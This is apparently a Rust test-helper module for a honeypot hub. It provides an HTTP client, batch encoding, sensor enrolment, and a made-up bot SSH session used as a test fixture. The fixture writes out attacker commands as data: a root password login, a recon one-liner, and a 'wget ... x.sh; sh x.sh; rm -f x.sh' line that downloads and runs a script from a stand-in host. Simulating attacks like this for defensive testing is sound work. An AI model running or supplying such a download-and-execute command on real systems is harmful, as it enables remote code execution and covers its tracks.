//! What tests and load examples share: a small HTTP client, and attackers' sessions made up for the purpose.

#![allow(dead_code, missing_docs)] // each user takes a part

use model::{Detail, Event, Protocol, SessionId, Sha256, Timestamp, Transport, wire};
use serde_json::Value;
use std::net::{IpAddr, SocketAddr};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

/// An answer.
#[derive(Debug)]
pub struct Answer {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Answer {
    pub fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|error| panic!("{error}: {:?}", String::from_utf8_lossy(&self.body)))
    }

    pub fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(key, _)| key == name).map(|(_, value)| value.as_str())
    }
}

/// One connection kept open.
pub struct Client {
    stream: BufReader<TcpStream>,
    head: String,
}

impl Client {
    pub async fn connect(address: SocketAddr, key: Option<&str>) -> Client {
        let stream = TcpStream::connect(address).await.unwrap();
        stream.set_nodelay(true).unwrap();
        let key = key.map(|key| format!("Authorization: Bearer {key}\r\n")).unwrap_or_default();
        Client { stream: BufReader::with_capacity(64 * 1024, stream), head: format!("Host: hub\r\n{key}") }
    }

    pub async fn send(&mut self, method: &str, target: &str, headers: &str, body: &[u8]) -> std::io::Result<Answer> {
        let mut request =
            format!("{method} {target} HTTP/1.1\r\n{}{headers}Content-Length: {}\r\n\r\n", self.head, body.len()).into_bytes();
        request.extend_from_slice(body);
        self.stream.get_mut().write_all(&request).await?;
        let mut line = String::new();
        self.stream.read_line(&mut line).await?;
        let status = line.get(9..12).and_then(|code| code.parse().ok()).ok_or(std::io::ErrorKind::UnexpectedEof)?;
        let mut answer = Answer { status, headers: Vec::new(), body: Vec::new() };
        loop {
            let mut line = String::new();
            self.stream.read_line(&mut line).await?;
            let Some((name, value)) = line.trim_end().split_once(": ") else { break };
            answer.headers.push((name.to_ascii_lowercase(), value.to_owned()));
        }
        let length = answer.header("content-length").map_or(0, |length| length.parse().unwrap());
        answer.body.resize(length, 0);
        self.stream.read_exact(&mut answer.body).await?;
        Ok(answer)
    }

    pub async fn get(&mut self, target: &str) -> Answer {
        self.send("GET", target, "", b"").await.unwrap()
    }
}

/// Records of the wire format from events, numbered from `first`.
pub fn records(first: u64, events: &[Event]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (sequence, event) in (first..).zip(events) {
        wire::encode(sequence, &wire::encode_event(event), &mut bytes);
    }
    bytes
}

/// The body of a batch.
pub fn frame(records: &[u8]) -> Vec<u8> {
    zstd::bulk::compress(records, 1).unwrap()
}

/// A bot's SSH session of 11 events: let in, two commands, a download. `id` makes it unique.
pub fn ssh_session(id: u64, source: IpAddr, start: Timestamp) -> Vec<Event> {
    let mut bytes = [0; 16];
    bytes[..8].copy_from_slice(&(start.millis() as u64).to_be_bytes());
    bytes[8..].copy_from_slice(&id.to_be_bytes());
    let session = SessionId(uuid::Uuid::from_bytes(bytes));
    let details = [
        Detail::Connect {
            peer: (source, 40_000 + (id % 20_000) as u16).into(),
            local: ([192, 0, 2, 10], 22).into(),
            transport: Transport::Tcp,
            tls: false,
            via: None,
        },
        Detail::Fingerprint { method: "ssh_client_version".into(), value: "SSH-2.0-Go".into(), raw: "".into() },
        Detail::Fingerprint { method: "hassh".into(), value: "0a07365cc01fa9fc82608ba4019af499".into(), raw: vec![b'k'; 600].into() },
        Detail::Auth { method: "password".into(), username: "root".into(), secret: format!("pass{}", id % 500).into(), accepted: true },
        Detail::Command { line: "uname -a; cat /proc/cpuinfo | grep name | wc -l".into() },
        Detail::Command { line: format!("cd /tmp; wget http://198.18.0.{}/x.sh; sh x.sh; rm -f x.sh", id % 250).into() },
        Detail::Fetch { url: format!("http://198.18.0.{}/x.sh", id % 250).into(), tool: "wget".into() },
        Detail::File { path: "/tmp/x.sh".into(), sha256: Sha256([id as u8; 32]), bytes: 1300, stored_bytes: 1300, method: "shell".into() },
        Detail::Rx { data: vec![b'r'; 180].into() },
        Detail::Tx { data: vec![b't'; 350].into() },
        Detail::Close { reason: "peer".into(), duration_us: 2_500_000, rx_bytes: 2100, tx_bytes: 3300 },
    ];
    let event = |(step, detail): (i64, Detail)| Event {
        time: Timestamp(start.0 + step * 250_000),
        session,
        source,
        protocol: Protocol::Ssh,
        detail,
    };
    (0..).zip(details).map(event).collect()
}

/// A public address for a number.
pub fn public_address(number: u32) -> IpAddr {
    // 40.0.0.0/8 and on: nothing special lies there.
    IpAddr::from((0x2800_0000 + number).to_be_bytes())
}

/// A started hub on a free port, over plain HTTP.
pub async fn hub(data: &std::path::Path) -> hub::Hub {
    let config = hub::Config { listen: ([127, 0, 0, 1], 0).into(), tls: hub::Tls::OFF, ..hub::Config::default() };
    // A hub that was just dropped lets go of its folder when its threads have ended.
    for _ in 0..200 {
        match hub::Hub::start(config.clone(), data).await {
            Err(hub::StartError::Locked { .. }) => tokio::time::sleep(std::time::Duration::from_millis(50)).await,
            started => return started.unwrap(),
        }
    }
    panic!("the folder stays locked");
}

/// Waits until everything stored has been judged; returns `/healthz`.
pub async fn settled(address: SocketAddr) -> Value {
    let mut client = Client::connect(address, None).await;
    for _ in 0..6000 {
        let health = client.get("/healthz").await.json();
        if health["ingest"]["backlogEvents"] == 0 {
            return health;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("the pipeline does not catch up");
}

/// Enrols a sensor; its id and key.
pub async fn enrol(hub: &hub::Hub, data: &std::path::Path, name: &str) -> (model::SensorId, String) {
    let config = hub::Config { tls: hub::Tls::OFF, ..hub::Config::default() };
    let token = hub::admin::new_token(&config, data, hub::admin::TOKEN_LIFETIME).unwrap();
    let body = serde_json::json!({ "token": token.text, "name": name, "persona": "ubuntu-web", "version": "0.1.0" }).to_string();
    let answer = Client::connect(hub.address(), None).await.send("POST", "/v1/sensor/enrol", "", body.as_bytes()).await.unwrap();
    assert_eq!(answer.status, 200, "{}", answer.text());
    let answer = answer.json();
    (answer["sensor"].as_str().unwrap().parse().unwrap(), answer["key"].as_str().unwrap().to_owned())
}

/// The headers of a batch.
pub fn batch_headers(sensor: model::SensorId) -> String {
    format!(
        "Content-Encoding: zstd\r\nContent-Type: application/vnd.honeyguide.records\r\nX-Honeyguide-Sensor: {sensor}\r\n\
         X-Honeyguide-Lost: 0\r\nX-Honeyguide-Unsynced: 0\r\n"
    )
}
